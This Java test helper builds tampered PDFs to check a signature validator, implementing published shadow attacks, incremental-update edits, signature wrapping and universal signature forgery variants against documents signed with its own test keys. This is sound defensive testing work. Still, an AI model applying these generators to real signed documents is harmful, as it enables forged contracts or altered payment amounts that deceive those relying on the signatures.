package vn.signer.testing;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.util.Calendar;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSFloat;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSNull;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.digitalsignature.PDSignature;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.apache.pdfbox.util.Matrix;
import org.bouncycastle.cert.jcajce.JcaCertStore;
import org.bouncycastle.cms.CMSException;
import org.bouncycastle.cms.CMSProcessableByteArray;
import org.bouncycastle.cms.CMSSignedDataGenerator;
import org.bouncycastle.cms.jcajce.JcaSignerInfoGeneratorBuilder;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.bouncycastle.operator.jcajce.JcaDigestCalculatorProviderBuilder;

/**
 * Builds hostile PDFs from the public descriptions of attacks on PDF signatures, starting from a
 * document our own test keys signed: the shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk, NDSS
 * 2021: hide, replace, hide-and-replace, by overlay annotations, form widgets, replaced XObjects and
 * fonts) and the "PDF Insecurity" attacks (Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, CCS
 * 2019: incremental saving, signature wrapping, universal signature forgery). Every change is made
 * as a real incremental update, as an attacker's editor would.
 */
public final class PdfAttacks {
    /** Where the signed text of the sample letter is: the body of the page. */
    public static final PDRectangle SIGNED_TEXT = new PDRectangle(60, 350, 480, 300);

    private PdfAttacks() {
    }

    /** An opaque white box with new text, drawn as an annotation of {@code subtype} over the signed text. */
    public static void overlay(Path signed, Path out, String subtype, String text) {
        update(signed, out, doc -> {
            PDPage page = doc.getPage(0);
            COSDictionary annotation = new COSDictionary();
            annotation.setItem(COSName.TYPE, COSName.ANNOT);
            annotation.setName(COSName.SUBTYPE, subtype);
            annotation.setItem(COSName.RECT, SIGNED_TEXT.getCOSArray());
            annotation.setInt(COSName.F, 4);
            annotation.setString(COSName.CONTENTS, text);
            annotation.setItem(COSName.AP, appearance(doc, SIGNED_TEXT, text));
            addAnnotation(page, annotation);
        });
    }

    /** A sticky-note comment with {@code text} at {@code rect} on page 1, as a reader's viewer adds it. */
    public static void note(Path signed, Path out, PDRectangle rect, String text) {
        update(signed, out, doc -> {
            PDAnnotationText note = new PDAnnotationText();
            note.setContents(text);
            note.setRectangle(rect);
            note.constructAppearances(doc);
            addAnnotation(doc.getPage(0), note.getCOSObject());
        });
    }

    /** A new text field whose widget, with a white background and a value, covers the signed text. */
    public static void widgetOverlay(Path signed, Path out, String value) {
        update(signed, out, doc -> {
            PDAcroForm form = acroForm(doc);
            PDTextField field = new PDTextField(form);
            field.setPartialName("ghi_de");
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(SIGNED_TEXT);
            widget.setPage(doc.getPage(0));
            widget.setPrinted(true);
            widget.getCOSObject().setItem(COSName.AP, appearance(doc, SIGNED_TEXT, value));
            field.getCOSObject().setString(COSName.V, value);
            form.getFields().add(field);
            form.getCOSObject().setNeedToBeUpdated(true);
            if (form.getCOSObject().getDictionaryObject(COSName.FIELDS) instanceof COSArray fields) {
                fields.setNeedToBeUpdated(true);
            }
            addAnnotation(doc.getPage(0), widget.getCOSObject());
        });
    }

    /**
     * An unsigned document with a text field "so_tien", empty or holding {@code value}, and an empty
     * signature field "ky_ban_hanh" that, with {@code lockAmount}, locks "so_tien" once signed.
     */
    public static void form(Path unsigned, Path out, String value, boolean lockAmount) {
        try (PDDocument doc = Loader.loadPDF(unsigned.toFile())) {
            PDAcroForm form = acroForm(doc);
            PDTextField field = new PDTextField(form);
            field.setPartialName("so_tien");
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(360, 60, 160, 20));
            widget.setPage(doc.getPage(0));
            widget.setPrinted(true);
            form.getFields().add(field);
            doc.getPage(0).getAnnotations().add(widget);
            form.setDefaultResources(helveticaResources());
            form.setDefaultAppearance("/Helv 10 Tf 0 g");
            if (value != null) {
                field.setValue(value);
            }
            PDSignatureField signature = new PDSignatureField(form);
            signature.setPartialName("ky_ban_hanh");
            PDAnnotationWidget sigWidget = signature.getWidgets().get(0);
            sigWidget.setRectangle(new PDRectangle(320, 100, 200, 80));
            sigWidget.setPage(doc.getPage(0));
            sigWidget.setPrinted(true);
            if (lockAmount) {
                COSDictionary lock = new COSDictionary();
                lock.setItem(COSName.TYPE, COSName.getPDFName("SigFieldLock"));
                lock.setName(COSName.getPDFName("Action"), "Include");
                COSArray locked = new COSArray();
                locked.add(new COSString("so_tien"));
                lock.setItem(COSName.FIELDS, locked);
                signature.getCOSObject().setItem(COSName.getPDFName("Lock"), lock);
            }
            form.getFields().add(signature);
            doc.getPage(0).getAnnotations().add(sigWidget);
            doc.save(out.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Sets the value of the text field of {@link #form} and redraws its widget, as a form filler does. */
    public static void fill(Path signed, Path out, String value) {
        update(signed, out, doc -> {
            PDTextField field = (PDTextField) acroForm(doc).getField("so_tien");
            field.setValue(value);
            field.getCOSObject().setNeedToBeUpdated(true);
            for (PDAnnotationWidget widget : field.getWidgets()) {
                widget.getCOSObject().setNeedToBeUpdated(true);
                if (widget.getCOSObject().getDictionaryObject(COSName.AP) instanceof COSDictionary ap) {
                    ap.setNeedToBeUpdated(true);
                    if (ap.getDictionaryObject(COSName.N) instanceof COSStream normal) {
                        normal.setNeedToBeUpdated(true);
                    }
                }
            }
        });
    }

    /** An unsigned document whose page draws its body through a form XObject (as many generators do). */
    public static void withFormXObject(Path unsigned, Path out) {
        try (PDDocument doc = Loader.loadPDF(unsigned.toFile())) {
            PDFormXObject form = new PDFormXObject(doc);
            form.setBBox(new PDRectangle(0, 0, 300, 40));
            form.setResources(helveticaResources());
            try (OutputStream stream = form.getContentStream().createOutputStream()) {
                stream.write("BT /Helv 14 Tf 5 10 Td (So tien: 1.000.000 dong) Tj ET".getBytes(StandardCharsets.US_ASCII));
            }
            PDPage page = doc.getPage(0);
            try (PDPageContentStream content = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, true)) {
                content.saveGraphicsState();
                content.transform(Matrix.getTranslateInstance(80, 300));
                content.drawForm(form);
                content.restoreGraphicsState();
            }
            doc.save(out.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Redefines the form XObject of {@link #withFormXObject} with other text, in an incremental update. */
    public static void replaceXObject(Path signed, Path out) {
        update(signed, out, doc -> {
            PDResources resources = doc.getPage(0).getResources();
            for (COSName name : resources.getXObjectNames()) {
                if (resources.getXObject(name) instanceof PDFormXObject form) {
                    COSStream stream = form.getCOSObject();
                    try (OutputStream content = stream.createOutputStream()) {
                        content.write("BT /Helv 14 Tf 5 10 Td (So tien: 9.000.000 dong) Tj ET".getBytes(StandardCharsets.US_ASCII));
                    }
                    stream.setNeedToBeUpdated(true);
                }
            }
        });
    }

    /** Redefines the font that {@link #withFormXObject}'s XObject uses (another base font), in place. */
    public static void replaceFont(Path signed, Path out) {
        update(signed, out, doc -> {
            PDResources resources = doc.getPage(0).getResources();
            for (COSName name : resources.getXObjectNames()) {
                if (resources.getXObject(name) instanceof PDFormXObject form) {
                    COSDictionary fonts = (COSDictionary) form.getResources().getCOSObject().getDictionaryObject(COSName.FONT);
                    COSDictionary font = (COSDictionary) fonts.getDictionaryObject(COSName.getPDFName("Helv"));
                    font.setName(COSName.BASE_FONT, "Courier-Bold");
                    font.setNeedToBeUpdated(true);
                }
            }
        });
    }

    /** Removes the first annotation of page 1 (a signed seal or note, say). */
    public static void removeFirstAnnotation(Path signed, Path out) {
        update(signed, out, doc -> {
            PDPage page = doc.getPage(0);
            COSArray annots = (COSArray) page.getCOSObject().getDictionaryObject(COSName.ANNOTS);
            for (int i = 0; i < annots.size(); i++) {
                if (annots.getObject(i) instanceof COSDictionary a && !"Widget".equals(a.getNameAsString(COSName.SUBTYPE))) {
                    annots.remove(i);
                    break;
                }
            }
            annots.setNeedToBeUpdated(true);
            page.getCOSObject().setNeedToBeUpdated(true);
        });
    }

    /** Adds a square annotation with a visible appearance: for a document signed with it present. */
    public static void withStamp(Path unsigned, Path out) {
        try (PDDocument doc = Loader.loadPDF(unsigned.toFile())) {
            COSDictionary annotation = new COSDictionary();
            annotation.setItem(COSName.TYPE, COSName.ANNOT);
            annotation.setName(COSName.SUBTYPE, "Stamp");
            PDRectangle rect = new PDRectangle(400, 760, 150, 40);
            annotation.setItem(COSName.RECT, rect.getCOSArray());
            annotation.setInt(COSName.F, 4);
            annotation.setItem(COSName.AP, appearance(doc, rect, "DA DUYET"));
            doc.getPage(0).getAnnotations().add(PDAnnotation.createAnnotation(annotation));
            doc.save(out.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Adds a document-level action run when the file opens, in an unsigned update. */
    public static void openAction(Path signed, Path out) {
        update(signed, out, doc -> {
            COSDictionary action = new COSDictionary();
            action.setName(COSName.S, "JavaScript");
            action.setString(COSName.JS, "app.alert('da duyet')");
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
            doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
        });
    }

    /** Makes page 1 a square of {@code points} on a side, in an incremental update (its drawing would be huge). */
    public static void resizePage(Path signed, Path out, float points) {
        update(signed, out, doc -> {
            PDPage page = doc.getPage(0);
            page.setMediaBox(new PDRectangle(points, points));
            page.getCOSObject().removeItem(COSName.CROP_BOX);
            page.getCOSObject().setNeedToBeUpdated(true);
        });
    }

    /** Adds a blank page at the end (an incremental saving attack that adds content). */
    public static void addPage(Path signed, Path out) {
        update(signed, out, doc -> {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
                content.newLineAtOffset(80, 700);
                content.showText("Phu luc bo sung");
                content.endText();
            }
            doc.getPages().getCOSObject().setNeedToBeUpdated(true);
        });
    }

    /**
     * The signature wrapping attack: the signature value is cut to its real length, and the space its
     * zero padding took inside the byte range's gap now holds a dictionary entry. The signed bytes
     * and the signature value are untouched, so the digest and the signature still match.
     */
    public static void wrapSignature(Path signed, Path out) {
        byte[] bytes = bytes(signed);
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int open = text.lastIndexOf("/Contents <") + "/Contents ".length();
        int close = text.indexOf('>', open);
        int end = close;
        while (text.charAt(end - 1) == '0' && text.charAt(end - 2) == '0') {
            end -= 2;
        }
        // A key of the signature dictionary itself: well-formed PDF, outside the signed bytes.
        byte[] add = "> /Injected (written after signing, outside the signed bytes)".getBytes(StandardCharsets.ISO_8859_1);
        byte[] patched = bytes.clone();
        if (end + add.length >= close) {
            throw new IllegalStateException("no padding to wrap into");
        }
        System.arraycopy(add, 0, patched, end, add.length);
        for (int i = end + add.length; i <= close; i++) {
            patched[i] = ' ';
        }
        write(out, patched);
    }

    /**
     * Signs {@code unsigned} with PDFBox's own signing interface and a CMS value BouncyCastle makes with
     * {@code algorithm} (e.g. "SHA1withRSA"): a signature made outside DSS, with whatever digest an older
     * tool would use.
     */
    public static void signWithPdfBox(Path unsigned, Path out, TestPki.Entity signer, String algorithm) {
        try (PDDocument doc = Loader.loadPDF(unsigned.toFile()); OutputStream stream = Files.newOutputStream(out)) {
            PDSignature signature =
                    new PDSignature();
            signature.setFilter(PDSignature.FILTER_ADOBE_PPKLITE);
            signature.setSubFilter(PDSignature.SUBFILTER_ADBE_PKCS7_DETACHED);
            signature.setSignDate(Calendar.getInstance());
            doc.addSignature(signature, content -> cms(content, signer, algorithm));
            doc.saveIncremental(stream);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] cms(InputStream content, TestPki.Entity signer, String algorithm) throws IOException {
        try {
            CMSSignedDataGenerator generator = new CMSSignedDataGenerator();
            generator.addSignerInfoGenerator(new JcaSignerInfoGeneratorBuilder(
                    new JcaDigestCalculatorProviderBuilder().build())
                    .build(new JcaContentSignerBuilder(algorithm).build(signer.key()),
                            signer.certificate()));
            generator.addCertificates(new JcaCertStore(signer.chain()));
            return generator.generate(new CMSProcessableByteArray(content.readAllBytes()), false).getEncoded();
        } catch (GeneralSecurityException | OperatorCreationException
                 | CMSException e) {
            throw new IOException(e);
        }
    }

    /** How the universal signature forgery variants write /Contents and /ByteRange. */
    public enum Forgery {
        CONTENTS_MISSING, CONTENTS_NULL, CONTENTS_EMPTY, CONTENTS_NOT_DER,
        BYTE_RANGE_MISSING, BYTE_RANGE_NULL, BYTE_RANGE_THREE, BYTE_RANGE_NOT_INTEGERS, BYTE_RANGE_OUTSIDE
    }

    /**
     * An unsigned document given a signature field whose value claims to be a signature with
     * {@code forgery}'s /Contents or /ByteRange (universal signature forgery): a verifier that skips
     * such a value reports "no signature" or, worse, valid.
     */
    public static void forge(Path unsigned, Path out, Forgery forgery) {
        try (PDDocument doc = Loader.loadPDF(unsigned.toFile())) {
            PDAcroForm form = acroForm(doc);
            PDSignatureField field = new PDSignatureField(form);
            field.setPartialName("chu_ky_gia");
            COSDictionary value = new COSDictionary();
            value.setItem(COSName.TYPE, COSName.SIG);
            value.setName(COSName.FILTER, "Adobe.PPKLite");
            value.setName(COSName.SUB_FILTER, "ETSI.CAdES.detached");
            value.setString(COSName.NAME, "Bo Truong");
            COSArray range = new COSArray();
            for (long v : new long[] {0, 100, 200, 100}) {
                range.add(COSInteger.get(v));
            }
            COSBase contents = new COSString(new byte[] {0x30, (byte) 0x82, 0x01, 0x00, 0x06, 0x09});
            switch (forgery) {
                case CONTENTS_MISSING -> contents = null;
                case CONTENTS_NULL -> contents = COSNull.NULL;
                case CONTENTS_EMPTY -> contents = new COSString(new byte[0]);
                case CONTENTS_NOT_DER -> contents = new COSString("not a signature".getBytes(StandardCharsets.US_ASCII));
                case BYTE_RANGE_MISSING -> range = null;
                case BYTE_RANGE_NULL -> range = null;
                case BYTE_RANGE_THREE -> range.remove(3);
                case BYTE_RANGE_NOT_INTEGERS -> range.set(1, new COSFloat(100.5f));
                case BYTE_RANGE_OUTSIDE -> range.set(3, COSInteger.get(1_000_000_000L));
                default -> throw new IllegalArgumentException(forgery.name());
            }
            if (contents != null) {
                value.setItem(COSName.CONTENTS, contents);
            }
            if (forgery == Forgery.BYTE_RANGE_NULL) {
                value.setItem(COSName.getPDFName("ByteRange"), COSNull.NULL);
            } else if (range != null) {
                value.setItem(COSName.getPDFName("ByteRange"), range);
            }
            field.getCOSObject().setItem(COSName.V, value);
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(0, 0, 0, 0));
            widget.setPage(doc.getPage(0));
            form.getFields().add(field);
            doc.getPage(0).getAnnotations().add(widget);
            doc.save(out.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---- helpers -------------------------------------------------------------------------------------

    /** An edit of a loaded document, saved as an incremental update by {@link #update}. */
    public interface Edit {
        void apply(PDDocument doc) throws IOException;
    }

    /** Saves {@code signed} with {@code edit} applied as one incremental update in {@code out}. */
    public static void update(Path signed, Path out, Edit edit) {
        try (PDDocument doc = Loader.loadPDF(signed.toFile())) {
            edit.apply(doc);
            try (OutputStream stream = Files.newOutputStream(out)) {
                doc.saveIncremental(stream);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Adds {@code annotation} to {@code page}, marking what an incremental save must write. */
    public static void addAnnotation(PDPage page, COSDictionary annotation) {
        COSBase annots = page.getCOSObject().getDictionaryObject(COSName.ANNOTS);
        COSArray array = annots instanceof COSArray a ? a : new COSArray();
        array.add(annotation);
        if (!(annots instanceof COSArray)) {
            page.getCOSObject().setItem(COSName.ANNOTS, array);
        }
        array.setNeedToBeUpdated(true);
        annotation.setNeedToBeUpdated(true);
        page.getCOSObject().setNeedToBeUpdated(true);
    }

    /** An appearance: an opaque white box with black {@code text} in it. */
    public static COSDictionary appearance(PDDocument doc, PDRectangle rect, String text) throws IOException {
        PDAppearanceDictionary appearance = new PDAppearanceDictionary();
        appearance.setNormalAppearance(appearanceStream(doc, rect, text));
        return appearance.getCOSObject();
    }

    /** The stream of {@link #appearance}. */
    public static PDAppearanceStream appearanceStream(PDDocument doc, PDRectangle rect, String text) throws IOException {
        PDAppearanceStream stream = new PDAppearanceStream(doc);
        stream.setBBox(new PDRectangle(rect.getWidth(), rect.getHeight()));
        stream.setResources(helveticaResources());
        String content = "1 1 1 rg 0 0 " + rect.getWidth() + " " + rect.getHeight() + " re f "
                + "0 g BT /Helv 14 Tf 10 " + (rect.getHeight() / 2) + " Td (" + text + ") Tj ET";
        try (OutputStream out = stream.getContentStream().createOutputStream()) {
            out.write(content.getBytes(StandardCharsets.US_ASCII));
        }
        return stream;
    }

    /** Resources naming Helvetica /Helv. */
    public static PDResources helveticaResources() {
        PDResources resources = new PDResources();
        resources.put(COSName.getPDFName("Helv"), new PDType1Font(Standard14Fonts.FontName.HELVETICA));
        return resources;
    }

    private static PDAcroForm acroForm(PDDocument doc) {
        PDAcroForm form = doc.getDocumentCatalog().getAcroForm();
        if (form == null) {
            form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
        }
        return form;
    }

    private static byte[] bytes(Path file) {
        try {
            return Files.readAllBytes(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void write(Path file, byte[] bytes) {
        try {
            Files.write(file, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
